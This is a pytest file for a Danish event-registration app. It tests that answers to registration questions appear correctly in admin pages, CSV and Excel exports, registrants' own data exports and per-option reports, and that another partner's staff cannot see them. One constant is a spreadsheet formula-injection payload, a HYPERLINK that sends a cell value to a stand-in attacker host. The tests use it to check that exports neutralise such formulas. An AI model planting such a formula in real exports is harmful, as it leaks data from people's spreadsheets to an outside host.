"""Answers where people read them: on the registration in the admin, one column per question in
the CSV and Excel exports (formulas still neutralised), on the registrant's own pages and data
export, and counted per option in a report with a chart. Another partner sees none of it."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from events.models import EventQuestion
from tests.events.questions import option, question, with_questions
from tests.events.registrations import sign_up, vocabulary  # noqa: F401

pytestmark = pytest.mark.usefixtures("vocabulary")

HOSTILE = '=HYPERLINK("https://evil.example/?"&A2,"Klik")'
SECRET_DIET = "Nøddeallergi (hemmelig)"


@pytest.fixture
def conference(event_of, vive):
    return with_questions(
        event_of,
        vive,
        question("Hvilken sag tager du med?", "long_text", key="sag"),
        question("Års erfaring", "number", key="erfaring"),
        question("Startdato", "date", key="startdato"),
        question("Deltager du i frokosten?", "yes_no", key="frokost", required=True),
        question("Kostbehov", "long_text", key="kost", data_class="sensitive"),
        question(
            "Hvilken workshop?",
            "limited_choice",
            key="workshop",
            options=[option("a", "Workshop A", 10), option("b", "Workshop B", 10)],
        ),
        question(
            "Emner",
            "multiple_choice",
            key="emner",
            options=[option("samtaler", "Samtaler"), option("planer", "Handleplaner")],
        ),
        title="VIVEs konference",
        capacity=10,
    )


@pytest.fixture
def answered(conference):
    first = sign_up(
        conference,
        name="Søren Ærø",
        email="soeren@kommune.example",
        answers={
            "sag": HOSTILE,
            "erfaring": -3,
            "startdato": "2020-01-15",
            "frokost": True,
            "kost": SECRET_DIET,
            "workshop": "a",
            "emner": ["samtaler", "planer"],
        },
    ).registration
    second = sign_up(
        conference,
        name="Åse Øster",
        email="aase@kommune.example",
        answers={"frokost": False, "workshop": "b", "emner": ["planer"]},
    ).registration
    return first, second


def _csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_csv_export_has_a_column_per_question_with_formulas_neutralised(
    client, vive_moderator, answered
):
    client.force_login(vive_moderator)
    rows = _csv_rows(client.get(reverse("registrations:index"), {"export": "csv"}))
    soeren = next(row for row in rows if row["Navn"] == "Søren Ærø")
    assert soeren["Hvilken sag tager du med?"] == "'" + HOSTILE
    assert soeren["Års erfaring"] == "-3"  # a number, not a formula
    assert soeren["Startdato"] == "15-01-2020"
    assert soeren["Deltager du i frokosten?"] == "Ja"
    assert soeren["Kostbehov"] == SECRET_DIET
    assert soeren["Hvilken workshop?"] == "Workshop A"
    assert soeren["Emner"] == "Samtaler, Handleplaner"
    aase = next(row for row in rows if row["Navn"] == "Åse Øster")
    assert (aase["Hvilken sag tager du med?"], aase["Deltager du i frokosten?"]) == ("", "Nej")


def test_the_excel_export_has_typed_answer_cells_and_no_formula(client, vive_moderator, answered):
    client.force_login(vive_moderator)
    response = client.get(reverse("registrations:index"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    assert headings[-7:] == [
        "Hvilken sag tager du med?",
        "Års erfaring",
        "Startdato",
        "Deltager du i frokosten?",
        "Kostbehov",
        "Hvilken workshop?",
        "Emner",
    ]
    cells = {
        row[1].value: dict(zip(headings, row, strict=True)) for row in sheet.iter_rows(min_row=2)
    }
    soeren = cells["Søren Ærø"]
    assert soeren["Hvilken sag tager du med?"].value == "'" + HOSTILE
    assert soeren["Hvilken sag tager du med?"].data_type == "s"
    assert soeren["Års erfaring"].value == -3
    assert soeren["Startdato"].value.date() == date(2020, 1, 15)
    assert soeren["Deltager du i frokosten?"].value == "Ja"


def test_answers_of_a_deleted_question_stay_in_the_export_under_their_question(
    client, vive_moderator, conference, answered
):
    EventQuestion.objects.filter(page=conference, key="sag").delete()
    client.force_login(vive_moderator)
    rows = _csv_rows(client.get(reverse("registrations:index"), {"export": "csv"}))
    soeren = next(row for row in rows if row["Navn"] == "Søren Ærø")
    assert soeren["Hvilken sag tager du med?"] == "'" + HOSTILE


def test_the_registration_in_the_admin_shows_its_answers(client, vive_editor, answered):
    soeren, _aase = answered
    client.force_login(vive_editor)
    response = client.get(reverse("registrations:inspect", args=[soeren.pk]))
    page = response.content.decode()
    assert response.status_code == 200
    assert "Hvilken workshop?" in page and "Workshop A" in page
    assert "Samtaler, Handleplaner" in page
    assert SECRET_DIET in page
    assert "<script" not in page.split("Hvilken sag tager du med?")[1][:300]


@pytest.mark.parametrize("username", ["bv_editor", "bv_moderator"])
def test_another_partners_people_see_no_answers(request, client, answered, username):
    soeren, _aase = answered
    client.force_login(request.getfixturevalue(username))
    response = client.get(reverse("registrations:inspect", args=[soeren.pk]))
    assert response.status_code in (302, 403, 404)
    assert SECRET_DIET not in response.content.decode()
    export = client.get(reverse("registrations:index"), {"export": "csv"})
    body = b"".join(export.streaming_content).decode("utf-8-sig") if export.streaming else ""
    assert SECRET_DIET not in body and "Kostbehov" not in body
    report = client.get(reverse("answer_report:index"), {"event": soeren.event_id})
    assert "Workshop A" not in report.content.decode()


def test_the_registrants_own_pages_and_data_export_show_their_answers(client, answered):
    soeren, _aase = answered
    manage = client.get(reverse("registration:manage", args=[soeren.token])).content.decode()
    assert "Hvilken workshop?" in manage and "Workshop A" in manage
    mine = client.get(reverse("registration:mine", args=[soeren.token])).content.decode()
    assert "Emner: Samtaler, Handleplaner" in mine
    assert "=HYPERLINK(&quot;" in mine  # escaped as text
    data = client.get(reverse("registration:data", args=[soeren.token]), {"format": "json"})
    (exported,) = json.loads(data.content)["registrations"]
    answers = {a["key"]: a for a in exported["answers"]}
    assert answers["kost"] == {
        "question": "Kostbehov",
        "key": "kost",
        "answer": SECRET_DIET,
        "value": SECRET_DIET,
    }
    assert answers["emner"]["value"] == ["samtaler", "planer"]


def test_the_answer_report_counts_each_option_with_a_chart_per_question(
    client, vive_moderator, conference, answered
):
    client.force_login(vive_moderator)
    response = client.get(reverse("answer_report:index"), {"event": conference.pk})
    assert response.status_code == 200
    rows = [
        (row.question, row.label, row.registrations, row.participants)
        for row in response.context["object_list"]
    ]
    assert rows == [
        ("Deltager du i frokosten?", "Ja", 1, 1),
        ("Deltager du i frokosten?", "Nej", 1, 1),
        ("Hvilken workshop?", "Workshop A", 1, 1),
        ("Hvilken workshop?", "Workshop B", 1, 1),
        ("Emner", "Samtaler", 1, 1),
        ("Emner", "Handleplaner", 2, 2),
    ]
    page = response.content.decode()
    assert page.count('<svg class="reach-chart"') == 3
    assert 'id="answer-chart-3-title">Emner<' in page
    assert "2 tilmeldinger" in page

    export = client.get(reverse("answer_report:index"), {"event": conference.pk, "export": "csv"})
    rows = _csv_rows(export)
    assert rows[0] == {
        "Spørgsmål": "Deltager du i frokosten?",
        "Svar": "Ja",
        "Tilmeldinger": "1",
        "Deltagere": "1",
    }


def test_the_answer_report_asks_for_an_event_first(client, vive_moderator, answered):
    client.force_login(vive_moderator)
    response = client.get(reverse("answer_report:index"))
    assert response.status_code == 200
    assert "Vælg et arrangement med spørgsmål." in response.content.decode()
